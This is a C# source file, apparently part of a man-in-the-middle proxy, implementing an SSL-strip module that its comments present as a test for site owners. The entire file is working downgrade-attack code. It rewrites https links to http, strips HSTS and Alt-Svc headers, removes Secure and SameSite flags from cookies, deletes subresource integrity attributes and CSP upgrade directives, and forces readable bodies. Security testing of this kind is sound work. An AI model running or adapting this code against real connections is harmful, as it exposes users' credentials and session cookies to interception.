using System.Text;
using System.Text.RegularExpressions;
using MitmWeb.Proxy.Connections;
using MitmWeb.Proxy.Http;

namespace MitmWeb.Proxy.SslStrip;

/// <summary>
/// The SSL-strip test: does to a client that comes over http what somebody on the way would do (Moxie Marlinspike's sslstrip, 2009), so
/// that a host's owner sees whether HSTS and the app hold out. The server is spoken to through TLS; in what it answers, https addresses of
/// the hosts named become http, and what would bring the client back to https is taken out. What comes over https is left alone, as somebody
/// on the way has to.
/// </summary>
internal sealed partial class SslStripEdit(IReadOnlyList<SslStripTarget> targets) : ExchangeEdit
{
    public const string Mark = "ssl-strip";

    /// <summary>Longer bodies pass as they are.</summary>
    public const int MaxBody = 4 * 1024 * 1024;

    private const int MaxDecoded = 16 * 1024 * 1024;

    private readonly Links _links = new(targets);

    public override string Name => Mark;

    /// <summary>Whether an exchange is to be changed. Clients that speak HTTP/2 without TLS are no browsers, and are left alone.</summary>
    public bool IsFor(RequestHead request, Destination asked) =>
        !asked.IsTls
        && request.Version != "HTTP/2"
        && request.Method != "CONNECT"
        && targets.Any(target => target.MatchesHttp(asked.TlsName, asked.Port) || target.MatchesHttp(asked.Host, asked.Port));

    public override Destination Redirect(Destination asked) => asked with { IsTls = true, Port = SslStripTarget.HttpsPortOf(asked.Port) };

    /// <summary>The server is to send whole bodies that can be read, and to see no http address.</summary>
    public override RequestHead Request(RequestHead outgoing)
    {
        var fields = outgoing.Headers
            .Where(field => field.Name.ToLowerInvariant() is not ("accept-encoding" or "upgrade-insecure-requests" or "if-none-match" or "if-modified-since"))
            .Select(field => field.Name.ToLowerInvariant() is "origin" or "referer" ? field with { Value = _links.Restore(field.Value) } : field)
            .Append(new HeaderField("Accept-Encoding", "identity"));
        return RequestHead.Create(outgoing.Method, outgoing.Target, outgoing.Version, fields);
    }

    public override int BodyLimit(ResponseHead head) =>
        head.Status is >= 200 and not (204 or 206 or 304) && KindOf(head) is not TextKind.Other ? MaxBody : 0;

    public override EditedResponse Response(ResponseHead head, ReadOnlyMemory<byte>? body)
    {
        var fields = head.Headers.Select(Edit).OfType<HeaderField>();
        if (body is not { } bytes || !ContentCodings.TryDecode(bytes, head.Headers, MaxDecoded, out var content))
        {
            return new EditedResponse(With(head, fields, null), null);
        }

        // Latin-1 gives each byte one character and back, and in all charsets that pages use today addresses are ASCII.
        var text = _links.Strip(Encoding.Latin1.GetString(content.Span));
        if (KindOf(head) == TextKind.Html)
        {
            text = UpgradeInMeta().Replace(Integrity().Replace(text, ""), "$1");
        }

        // The sums over the body do not hold any more.
        var edited = Encoding.Latin1.GetBytes(text);
        var without = fields.Where(field =>
            field.Name.ToLowerInvariant() is not ("content-encoding" or "content-md5" or "digest" or "content-digest" or "repr-digest"));
        return new EditedResponse(With(head, without, edited.Length), edited);
    }

    private HeaderField? Edit(HeaderField field) => field.Name.ToLowerInvariant() switch
    {
        // What would bring the client back to TLS by itself.
        "strict-transport-security" or "alt-svc" => null,
        "set-cookie" => field with { Value = PlainCookie(field.Value) },
        "location" or "content-location" or "refresh" or "link" or "access-control-allow-origin" => field with { Value = _links.Strip(field.Value) },
        "content-security-policy" or "content-security-policy-report-only" => field with { Value = PlainPolicy(_links.Strip(field.Value)) },
        _ => field,
    };

    /// <summary>Without Secure, and without what browsers take with Secure only.</summary>
    private static string PlainCookie(string value) => string.Join(';', value.Split(';').Where((part, index) =>
        index == 0 || part.Replace(" ", "", StringComparison.Ordinal).ToLowerInvariant() is not ("secure" or "samesite=none" or "partitioned")));

    private static string PlainPolicy(string value) => string.Join(';', value.Split(';')
        .Where(directive => directive.Trim().ToLowerInvariant() is not ("upgrade-insecure-requests" or "block-all-mixed-content"))
        .Select(directive => SchemeSource().Replace(directive, "https: http:")));

    private static TextKind KindOf(ResponseHead head)
    {
        var type = head.Headers.Find("Content-Type"u8)?.Split(';')[0].Trim().ToLowerInvariant();
        return type switch
        {
            "text/html" or "application/xhtml+xml" => TextKind.Html,
            "text/css" or "text/javascript" or "application/javascript" or "application/x-javascript" => TextKind.Code,
            _ => TextKind.Other,
        };
    }

    private enum TextKind
    {
        Other,
        Html,
        Code,
    }

    [GeneratedRegex("""\sintegrity\s*=\s*("[^"]*"|'[^']*')""", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Integrity();

    [GeneratedRegex("(<meta\\s[^>]*?)(?:upgrade-insecure-requests|block-all-mixed-content)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex UpgradeInMeta();

    [GeneratedRegex(@"(?<=\s)https:(?=\s|$)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex SchemeSource();
}
